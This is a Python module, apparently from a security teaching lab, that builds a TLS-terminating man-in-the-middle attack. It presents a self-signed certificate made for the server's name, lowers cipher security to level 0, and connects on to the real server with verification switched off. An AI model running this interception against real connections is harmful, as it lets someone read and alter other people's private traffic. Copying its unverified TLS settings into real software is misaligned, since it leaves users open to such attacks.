"""Ending TLS in the middle: the client's connection ends at the attacker, and another begins there.

What the attacks of position `on-path` use where the stage speaks TLS. The client is answered with a certificate of the
attacker's; whether it believes that is its own affair, and where it refuses, there is nothing to carry. The way on to
the server is an ordinary TLS connection, whose certificate the attacker does not care about. Between the two the lines
are as they were written, and come through a pair of sockets, so that `Splice` carries them as it carries any others.
"""

import asyncio
import contextlib
import datetime
import socket
import ssl
import tempfile
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Final

from attacks.on_path import TLS_HANDSHAKE
from common.client import TLS_NAME
from common.errors import LabError
from common.loopback import Intercepted, InterceptTcp

CHUNK: Final = 1 << 16

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def terminating(
    carry: InterceptTcp, note: Callable[[str], None], certificate: Callable[[], ssl.SSLContext] | None = None
) -> InterceptTcp:
    """`carry`, but what comes in TLS it gets in the clear; what does not, it gets as it is.

    certificate: what the client is answered with; one that Mallory has made for herself, where none is given.
    """

    async def intercept(intercepted: Intercepted) -> None:
        if await first_byte(intercepted.sock) != TLS_HANDSHAKE:
            await carry(intercepted)
            return
        try:
            towards_client = await _answered(intercepted.sock, (certificate or self_signed)())
        except OSError as error:  # ssl.SSLError is one
            note(
                f"a client refuses Mallory's certificate: {getattr(error, 'reason', '') or str(error) or 'it hangs up'}"
            )
            return
        note("a client takes Mallory's certificate for the server's")
        async with _in_the_clear(towards_client) as clear:
            await with_tls_onward(carry, replace(intercepted, sock=clear))

    return intercept


async def with_tls_onward(carry: InterceptTcp, intercepted: Intercepted) -> None:
    """Carry a connection that is in the clear towards the client, and in TLS towards the server."""
    async with contextlib.AsyncExitStack() as stack:

        async def dial() -> socket.socket:
            sock = await intercepted.dial()
            try:
                towards_server = await asyncio.open_connection(sock=sock, ssl=_unverified(), server_hostname=TLS_NAME)
            except OSError as error:
                raise LabError(f"The server speaks no TLS ({error}).") from None
            return await stack.enter_async_context(_in_the_clear(towards_server))

        with contextlib.suppress(LabError):  # nobody to carry to: the client sees the connection end
            await carry(replace(intercepted, dial=dial))


async def first_byte(sock: socket.socket) -> int | None:
    """The first byte that arrives, left where it is; None where the connection ends without one."""
    loop = asyncio.get_running_loop()
    readable = asyncio.Event()
    loop.add_reader(sock, readable.set)
    try:
        await readable.wait()
    finally:
        loop.remove_reader(sock)
    try:
        return next(iter(sock.recv(1, socket.MSG_PEEK)), None)
    except OSError:
        return None


async def _answered(sock: socket.socket, context: ssl.SSLContext) -> Streams:
    """Be the server of this connection's TLS. Raises OSError where the client refuses."""
    loop = asyncio.get_running_loop()
    reader = asyncio.StreamReader()
    protocol = asyncio.StreamReaderProtocol(reader)
    transport, _ = await loop.connect_accepted_socket(lambda: protocol, sock, ssl=context)
    return reader, asyncio.StreamWriter(transport, protocol, reader, loop)


@contextlib.asynccontextmanager
async def _in_the_clear(streams: Streams) -> AsyncIterator[socket.socket]:
    """A socket that carries what is inside of TLS, until the block ends."""
    reader, writer = streams
    near, far = socket.socketpair()
    for end in (near, far):
        end.setblocking(False)
    pumps = [asyncio.create_task(_out_of(reader, far)), asyncio.create_task(_into(far, writer))]
    try:
        yield near
        near.close()
        await asyncio.gather(*pumps)
    finally:
        for pump in pumps:
            pump.cancel()
        try:
            await asyncio.gather(*pumps, return_exceptions=True)
        finally:  # also where the attack is cancelled a second time
            near.close()
            far.close()
            writer.transport.abort()


async def _out_of(reader: asyncio.StreamReader, sink: socket.socket) -> None:
    """From TLS into the pair, until either ends."""
    with contextlib.suppress(OSError):
        while data := await reader.read(CHUNK):
            await asyncio.get_running_loop().sock_sendall(sink, data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


async def _into(source: socket.socket, writer: asyncio.StreamWriter) -> None:
    """From the pair into TLS, until either ends. TLS cannot end one direction alone, so both end."""
    with contextlib.suppress(OSError):
        while data := await asyncio.get_running_loop().sock_recv(source, CHUNK):
            writer.write(data)
            await writer.drain()
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()


@cache
def self_signed() -> ssl.SSLContext:
    """A certificate for the server's name that Mallory has made and signed herself: it costs her nothing."""
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.hashes import SHA256
    from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, TLS_NAME)])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(TLS_NAME)]), critical=False)
        .sign(key, SHA256())
    )
    own = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    with tempfile.TemporaryDirectory() as folder:  # OpenSSL reads files only
        file = Path(folder) / "mallory.pem"
        file.write_bytes(own + made.public_bytes(Encoding.PEM))
        return answering_with(file)


def answering_with(file: Path) -> ssl.SSLContext:
    """Answer with the key and certificates in this file, however weak they are."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.set_ciphers("DEFAULT@SECLEVEL=0")
    context.load_cert_chain(file)
    return context


@cache
def _unverified() -> ssl.SSLContext:
    """To the true server, whoever that is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context
